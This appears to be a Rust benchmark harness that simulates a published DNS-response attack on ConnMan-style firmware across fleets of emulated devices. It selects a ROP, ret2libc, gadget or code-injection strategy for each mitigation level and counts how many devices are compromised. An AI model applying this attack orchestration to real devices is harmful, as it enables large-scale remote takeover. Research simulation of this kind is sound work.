//! `fleet_unique`: the paper's attack at population scale with no
//! address-class sharing. Every cohort runs at full boot entropy, so
//! each device is its own session (fork → resolve → banked answer →
//! deliver → hijack run) and the fleet's resolver and recon do no
//! per-device work.

use std::time::Instant;

use cml_connman::Resolution;
use cml_core::fleet::{fan_out, run_fleet_cfg, ENTROPY_FULL};
use cml_core::{
    derive_seed, CohortAccum, CohortReport, CohortSpec, FleetConfig, FleetReport, FleetSpec, Lab,
    PhaseTimings, Verdict,
};
use cml_dns::{Name, RecordType};
use cml_exploit::{
    AnswerBank, ArmGadgetExeclp, CodeInjection, ExploitStrategy, MaliciousDnsServer, Ret2Libc,
    RiscvGadgetSystem, RopMemcpyChain, Slides, TargetInfo, TemplateSet,
};
use cml_firmware::{Arch, BootForge, Firmware, FirmwareKind, Protections, SharedForge};

use crate::trace::{Layer, Tracer};
use crate::{deliver, Rep};

/// Devices per cohort in one campaign.
const DEVICES_PER_COHORT: u64 = 6_000;

pub struct Fleet {
    spec: FleetSpec,
}

impl Fleet {
    /// Nine vulnerable cohorts, one per ISA × protection level, plus one
    /// patched cohort; the seed picks the boot layouts.
    pub fn new(seed: u64) -> Fleet {
        let mut cohorts = Vec::new();
        for arch in Arch::ALL {
            for (label, prot) in [
                ("none", Protections::none()),
                ("wxorx", Protections::wxorx()),
                ("full", Protections::full()),
            ] {
                cohorts.push(cohort(
                    &format!("{}-{label}", arch.name()),
                    FirmwareKind::OpenElec,
                    arch,
                    prot,
                ));
            }
        }
        cohorts.push(cohort(
            "patched",
            FirmwareKind::Patched,
            Arch::Armv7,
            Protections::full(),
        ));
        Fleet {
            spec: FleetSpec {
                base_seed: derive_seed(seed, 0xF1EE7),
                cohorts,
            },
        }
    }

    pub fn rep(&self, tr: &mut Tracer) -> Rep {
        let (report, setup_secs) = if tr.on() {
            replay(&self.spec, tr)
        } else {
            let t0 = Instant::now();
            let report = run_fleet_cfg(&self.spec, &FleetConfig::new(1));
            let setup = t0.elapsed().saturating_sub(report.elapsed);
            (report, setup.as_secs_f64())
        };
        let wrong = report
            .cohorts
            .iter()
            .map(|c| {
                if c.spec.kind.is_vulnerable() {
                    c.accum.devices - c.accum.compromised
                } else {
                    c.accum.compromised
                }
            })
            .sum();
        let op_secs = report.elapsed.as_secs_f64();
        Rep {
            ops: report.sessions,
            wrong,
            op_secs,
            setup_secs,
            latencies_ms: vec![op_secs * 1e3],
            output: report.render(),
            phases: Some(report.phases),
        }
    }
}

fn cohort(name: &str, kind: FirmwareKind, arch: Arch, prot: Protections) -> CohortSpec {
    let mut c = CohortSpec::new(name, kind, arch, DEVICES_PER_COHORT);
    c.protections = prot;
    c.entropy_bits = ENTROPY_FULL;
    c
}

/// The attacker's strategy per mitigation level, as `cml --strategy auto`
/// and the fleet pick it.
fn pick_strategy(arch: Arch, p: &Protections) -> Box<dyn ExploitStrategy> {
    if p.aslr.enabled {
        Box::new(RopMemcpyChain::new(arch))
    } else if p.wxorx {
        match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        }
    } else {
        Box::new(CodeInjection::new(arch))
    }
}

/// Per-cohort attacker state of the replay.
struct CohortState {
    host: Name,
    server: MaliciousDnsServer,
    bank: Option<AnswerBank>,
    forge: usize,
}

/// Looks `key` up in a small association list, building it on a miss.
fn memo<K: PartialEq, V>(list: &mut Vec<(K, V)>, key: K, make: impl FnOnce() -> V) -> usize {
    if let Some(i) = list.iter().position(|(k, _)| *k == key) {
        return i;
    }
    list.push((key, make()));
    list.len() - 1
}

/// Drives the same public calls `run_fleet_cfg` makes on one worker,
/// each inside a span, and folds verdicts into the same accumulators.
/// Returns a report whose `render` must equal the untraced run's.
fn replay(spec: &FleetSpec, tr: &mut Tracer) -> (FleetReport, f64) {
    let t_setup = Instant::now();
    let setup = tr.open(Layer::Setup);
    let mut firmwares: Vec<((FirmwareKind, Arch), Firmware)> = Vec::new();
    let mut references: Vec<((Arch, Protections), TargetInfo)> = Vec::new();
    let mut shared: Vec<((FirmwareKind, Arch, Protections), SharedForge)> = Vec::new();
    let mut start = 0u64;
    for c in &spec.cohorts {
        let fw = memo(&mut firmwares, (c.kind, c.arch), || {
            tr.span(Layer::FirmwareBuild, || Firmware::build(c.kind, c.arch))
        });
        memo(&mut references, (c.arch, c.protections), || {
            let replica = tr.span(Layer::FirmwareBuild, || {
                Firmware::build(FirmwareKind::OpenElec, c.arch)
            });
            let lab = Lab::with_firmware(replica).with_protections(c.protections);
            tr.span(Layer::ExploitRecon, || lab.recon())
                .expect("vulnerable replica recon succeeds")
        });
        let seed = derive_seed(spec.base_seed, start);
        memo(&mut shared, (c.kind, c.arch, c.protections), || {
            let fw = &firmwares[fw].1;
            tr.span(Layer::FirmwareBoot, || {
                SharedForge::new(fw, c.protections, seed)
            })
        });
        start += c.count;
    }
    tr.close(setup);
    let setup_secs = t_setup.elapsed().as_secs_f64();

    let t_ops = Instant::now();
    let mut forges: Vec<((FirmwareKind, Arch, Protections), BootForge)> = Vec::new();
    let mut templates = TemplateSet::new();
    let mut accums = vec![CohortAccum::default(); spec.cohorts.len()];
    let mut states: Vec<Option<CohortState>> = (0..spec.cohorts.len()).map(|_| None).collect();
    let mut device = 0u64;
    for (ci, c) in spec.cohorts.iter().enumerate() {
        for _ in 0..c.count {
            let op = tr.open(Layer::Op);
            if states[ci].is_none() {
                let reference = &references
                    .iter()
                    .find(|(k, _)| *k == (c.arch, c.protections))
                    .expect("recon ran in setup")
                    .1;
                let strategy = pick_strategy(c.arch, &c.protections);
                let labels = tr.span(Layer::ExploitBuild, || {
                    templates
                        .get_or_compile(strategy.as_ref(), reference)
                        .expect("fleet payload templates against the replica")
                        .instantiate(&Slides::identity())
                        .expect("identity relocation labelizes")
                });
                let name = strategy.name();
                let key = (c.kind, c.arch, c.protections);
                let sf = &shared.iter().find(|(k, _)| *k == key).expect("booted").1;
                let forge = memo(&mut forges, key, || {
                    tr.span(Layer::FirmwareBoot, || sf.spawn())
                });
                states[ci] = Some(CohortState {
                    host: Name::parse(&format!("telemetry.{}.vendor.example", c.name))
                        .expect("cohort names are label-safe"),
                    server: MaliciousDnsServer::with_labels(labels, name),
                    bank: None,
                    forge,
                });
            }
            let state = states[ci].as_mut().expect("ensured above");
            let verdict = session(tr, state, &mut forges[state.forge].1, spec, device);
            fan_out(
                verdict,
                device..device + 1,
                spec.base_seed,
                c.loss_ppm,
                &mut accums[ci],
            );
            tr.close(op);
            device += 1;
        }
        tr.flush();
    }
    for s in states.iter().flatten() {
        tr.count(
            "exploit.exploit_responses",
            s.server.stats().exploit_responses,
        );
    }
    let report = FleetReport {
        devices: device,
        cohorts: spec
            .cohorts
            .iter()
            .zip(accums)
            .map(|(spec, accum)| CohortReport {
                spec: spec.clone(),
                accum,
            })
            .collect(),
        outcomes: None,
        elapsed: t_ops.elapsed(),
        jobs: 1,
        phases: PhaseTimings::default(),
        sessions: device,
    };
    (report, setup_secs)
}

/// One class session of the replay, mirroring the fleet's banked path.
fn session(
    tr: &mut Tracer,
    state: &mut CohortState,
    forge: &mut BootForge,
    spec: &FleetSpec,
    device: u64,
) -> Verdict {
    let seed = derive_seed(spec.base_seed, device);
    let daemon = tr.span(Layer::FirmwareFork, || forge.fork(seed));
    if !daemon.is_running() {
        return Verdict::Down;
    }
    let query = match tr.span(Layer::ConnmanResolve, || {
        daemon.resolve(&state.host, RecordType::A)
    }) {
        Resolution::Query(q) => q,
        Resolution::Cached(_) => return Verdict::Served,
    };
    let banked = tr.span(Layer::ExploitAnswer, || {
        if state.bank.is_none() {
            state.bank = AnswerBank::capture(&mut state.server, &query);
        }
        state.bank.as_mut().and_then(|b| b.answer(&query)).is_some()
    });
    let outcome = if banked {
        let bytes = state.bank.as_ref().expect("banked implies bank").response();
        deliver(tr, daemon, bytes)
    } else {
        match state.server.handle(&query) {
            Some(resp) => deliver(tr, daemon, &resp),
            None => return Verdict::Lost,
        }
    };
    crate::verdict(&outcome)
}
